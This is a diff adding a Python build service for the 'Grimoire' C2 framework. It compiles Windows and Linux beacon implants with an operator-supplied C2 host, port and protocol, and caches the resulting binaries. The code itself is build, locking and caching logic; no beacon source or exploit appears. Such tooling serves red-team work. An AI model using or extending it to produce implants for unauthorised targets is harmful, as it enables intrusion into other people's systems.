@@ -0,0 +1,249 @@
+import hashlib
+import json
+import os
+import re
+import shutil
+import subprocess
+import threading
+import time
+from typing import Dict, List, NamedTuple, Tuple
+
+from config import Config
+
+
+class BuildResult(NamedTuple):
+    path: str           # 缓存里的产物路径
+    download_name: str
+    cache_key: str
+    cache_hit: bool
+    seconds: float
+
+
+class BuildError(Exception):
+    """
+    CMake 配置或编译失败，details 是编译器输出。
+    """
+    def __init__(self, message: str, details: str = ''):
+        super().__init__(message)
+        self.details = details
+
+
+class GrimoireBuildService:
+    """
+    Payload 构建服务层：
+        1. 产物缓存：按 (平台, host, port, protocol, beacon 源码哈希) 算缓存键，命中直接返回。
+        2. 增量构建：每个平台一个常驻的构建目录，C2 配置只在生成的头文件里，
+           换 host/port 时 CMake 只重编 GrimoireConfig.cpp 再链接。
+        3. 产物登记表：缓存里的每个产物都登记了最后使用时间，过期清理按登记表来，不用遍历目录。
+    """
+    HOST_PATTERN = re.compile(r'^[A-Za-z0-9.\-\[\]:]{1,253}$')
+    PROTOCOLS = ('http://', 'https://')
+
+    def __init__(self, source_dir=Config.BEACON_SOURCE_DIR, build_root=Config.BUILD_ROOT_DIR,
+                 max_artifacts: int = Config.BUILD_CACHE_MAX_ARTIFACTS):
+        self.source_dir = str(source_dir)
+        self.trees_dir = os.path.join(str(build_root), 'trees')
+        self.artifacts_dir = os.path.join(str(build_root), 'artifacts')
+        self.max_artifacts = max_artifacts
+        os.makedirs(self.trees_dir, exist_ok=True)
+        os.makedirs(self.artifacts_dir, exist_ok=True)
+
+        # 同一个平台的构建目录同时只能有一个 CMake 在跑
+        self._tree_locks: Dict[str, threading.Lock] = {}
+        self._locks_guard = threading.Lock()
+
+        # 源码哈希按 (路径, 大小, 修改时间) 的签名缓存，源码没动就不重新读文件
+        self._source_signature = None
+        self._source_hash = None
+
+        # 产物登记表 {产物路径: 最后使用时间}，启动时扫一次缓存目录接上之前的产物
+        self._artifacts: Dict[str, float] = {}
+        self._artifacts_lock = threading.Lock()
+        for name in os.listdir(self.artifacts_dir):
+            path = os.path.join(self.artifacts_dir, name)
+            if name.endswith('.tmp'):
+                os.remove(path)
+            else:
+                self._artifacts[path] = os.path.getmtime(path)
+
+    @staticmethod
+    def platform_spec(target_os: str) -> Dict | None:
+        """
+        各平台的 CMake 生成器、编译器和产物名，不支持的平台返回 None。
+        """
+        if target_os == 'windows':
+            mingw_bin = os.path.normpath(Config.MINGW_BIN_DIR)
+            return {
+                "configure": [
+                    "-G", "MinGW Makefiles",
+                    f"-DCMAKE_C_COMPILER={os.path.join(mingw_bin, 'gcc.exe')}",
+                    f"-DCMAKE_CXX_COMPILER={os.path.join(mingw_bin, 'g++.exe')}",
+                    f"-DCMAKE_MAKE_PROGRAM={os.path.join(mingw_bin, 'mingw32-make.exe')}"
+                ],
+                "path_prefix": mingw_bin,
+                "extension": ".exe",
+                "binary_name": "GrimoireBeacon.exe",
+            }
+        if target_os == 'linux':
+            return {
+                "configure": [
+                    "-G", "Unix Makefiles",
+                    "-DCMAKE_C_COMPILER=gcc",
+                    "-DCMAKE_CXX_COMPILER=g++"
+                ],
+                "path_prefix": None,
+                "extension": ".elf",
+                "binary_name": "GrimoireBeacon",  # Linux 默认没后缀
+            }
+        return None
+
+    def validate(self, target_os: str, host: str, port: str, protocol: str):
+        """
+        这几个值会变成 C++ 字符串字面量，只接受正常的地址格式，不合法时抛 ValueError。
+        """
+        if self.platform_spec(target_os) is None:
+            raise ValueError(f"Unsupported platform: {target_os}")
+        if not self.HOST_PATTERN.match(host):
+            raise ValueError(f"Invalid host: {host[:64]}")
+        if not port.isdigit() or not 0 < int(port) < 65536:
+            raise ValueError(f"Invalid port: {port[:16]}")
+        if protocol not in self.PROTOCOLS:
+            raise ValueError(f"Invalid protocol: {protocol[:16]}")
+
+    def _iter_source_files(self) -> List[Tuple[str, os.stat_result]]:
+        files = []
+        for root, dirs, names in os.walk(self.source_dir):
+            # IDE 在源码目录里生成的构建目录不算源码
+            dirs[:] = sorted(d for d in dirs if not d.startswith(('.', 'cmake-build')))
+            for name in sorted(names):
+                path = os.path.join(root, name)
+                files.append((os.path.relpath(path, self.source_dir), os.stat(path)))
+        return files
+
+    def source_hash(self) -> str:
+        """
+        beacon 源码树 (包括 libs) 的内容哈希，源码有任何改动缓存键都会变。
+        """
+        files = self._iter_source_files()
+        signature = tuple((rel, st.st_size, st.st_mtime_ns) for rel, st in files)
+        if signature == self._source_signature:
+            return self._source_hash
+
+        hasher = hashlib.sha256()
+        for rel, _ in files:
+            hasher.update(rel.replace(os.sep, '/').encode('utf-8') + b'\0')
+            with open(os.path.join(self.source_dir, rel), 'rb') as f:
+                for block in iter(lambda: f.read(1024 * 1024), b''):
+                    hasher.update(block)
+            hasher.update(b'\0')
+
+        self._source_signature, self._source_hash = signature, hasher.hexdigest()
+        return self._source_hash
+
+    def cache_key(self, target_os: str, host: str, port: str, protocol: str) -> str:
+        inputs = {"platform": target_os, "host": host, "port": port, "protocol": protocol,
+                  "build_type": "Release", "source": self.source_hash()}
+        return hashlib.sha256(json.dumps(inputs, sort_keys=True).encode('utf-8')).hexdigest()
+
+    def _artifact_path(self, cache_key: str, extension: str) -> str:
+        return os.path.join(self.artifacts_dir, f"{cache_key}{extension}")
+
+    def _tree_lock(self, target_os: str) -> threading.Lock:
+        with self._locks_guard:
+            return self._tree_locks.setdefault(target_os, threading.Lock())
+
+    def lookup(self, target_os: str, cache_key: str) -> BuildResult | None:
+        """
+        缓存里有这个产物就返回 (并刷新最后使用时间)，没有返回 None。
+        """
+        extension = self.platform_spec(target_os)["extension"]
+        artifact = self._artifact_path(cache_key, extension)
+        with self._artifacts_lock:
+            if artifact not in self._artifacts or not os.path.exists(artifact):
+                self._artifacts.pop(artifact, None)
+                return None
+            self._artifacts[artifact] = time.time()
+        return BuildResult(artifact, f"Grimoire_{cache_key[:8]}{extension}", cache_key, True, 0.0)
+
+    def build(self, target_os: str, host: str, port: str, protocol: str) -> BuildResult:
+        """
+        返回对应配置的 Beacon 产物，缓存命中时不调用 CMake。
+        会阻塞到编译结束，请求里不要直接调用，交给 GrimoireBuildQueue。
+        参数不合法抛 ValueError，编译失败抛 BuildError。
+        """
+        self.validate(target_os, host, port, protocol)
+        spec = self.platform_spec(target_os)
+        started = time.monotonic()
+
+        cache_key = self.cache_key(target_os, host, port, protocol)
+        cached = self.lookup(target_os, cache_key)
+        if cached:
+            return cached
+
+        artifact = self._artifact_path(cache_key, spec["extension"])
+        with self._tree_lock(target_os):
+            # 等锁期间别的线程可能已经编好了同样的配置
+            cached = self.lookup(target_os, cache_key)
+            if cached:
+                return cached
+
+            self._build_in_tree(target_os, spec, host, port, protocol, artifact)
+
+        with self._artifacts_lock:
+            self._artifacts[artifact] = time.time()
+        self.expire_artifacts()
+        return BuildResult(artifact, f"Grimoire_{cache_key[:8]}{spec['extension']}", cache_key, False,
+                           time.monotonic() - started)
+
+    def _build_in_tree(self, target_os: str, spec: Dict, host: str, port: str, protocol: str, artifact: str):
+        env = os.environ.copy()
+        if spec["path_prefix"]:
+            env["PATH"] = spec["path_prefix"] + os.pathsep + env["PATH"]
+
+        work_dir = os.path.join(self.trees_dir, target_os)
+        os.makedirs(work_dir, exist_ok=True)
+
+        # 已经配置过的构建目录再跑一次 cmake 只会更新缓存变量和生成的头文件，很快
+        configure = ["cmake"] + spec["configure"] + [
+            f"-DC2_HOST_CONFIG={host}",
+            f"-DC2_PORT_CONFIG={port}",
+            f"-DC2_PROTOCOL_CONFIG={protocol}",
+            "-DCMAKE_BUILD_TYPE=Release",
+            self.source_dir
+        ]
+        result = subprocess.run(configure, cwd=work_dir, capture_output=True, text=True, encoding='utf-8', env=env)
+        if result.returncode != 0:
+            raise BuildError("CMake configure failed", result.stderr or result.stdout)
+
+        result = subprocess.run(["cmake", "--build", ".", "--config", "Release", f"-j{Config.BUILD_JOBS}"],
+                                cwd=work_dir, capture_output=True, text=True, encoding='utf-8', env=env)
+        if result.returncode != 0:
+            raise BuildError("Build failed", result.stderr or result.stdout)
+
+        binary = os.path.join(work_dir, spec["binary_name"])
+        if not os.path.exists(binary):
+            raise BuildError("Build finished but the binary is missing", result.stdout)
+
+        # 先拷到临时文件再改名，别的请求不会拿到写了一半的产物
+        tmp_path = artifact + ".tmp"
+        shutil.copyfile(binary, tmp_path)
+        os.replace(tmp_path, artifact)
+
+    def expire_artifacts(self, max_age_seconds: int = Config.BUILD_ARTIFACT_TTL_SECONDS) -> int:
+        """
+        按登记表删除太久没用的产物，数量超过上限时再删最久没用的，返回删除的数量。
+        """
+        deadline = time.time() - max_age_seconds
+        with self._artifacts_lock:
+            by_age = sorted(self._artifacts.items(), key=lambda item: item[1])
+            overflow = max(0, len(by_age) - self.max_artifacts)
+            expired = [path for i, (path, last_used) in enumerate(by_age) if i < overflow or last_used < deadline]
+            for path in expired:
+                del self._artifacts[path]
+
+        for path in expired:
+            try:
+                os.remove(path)
+            except FileNotFoundError:
+                pass
+        return len(expired)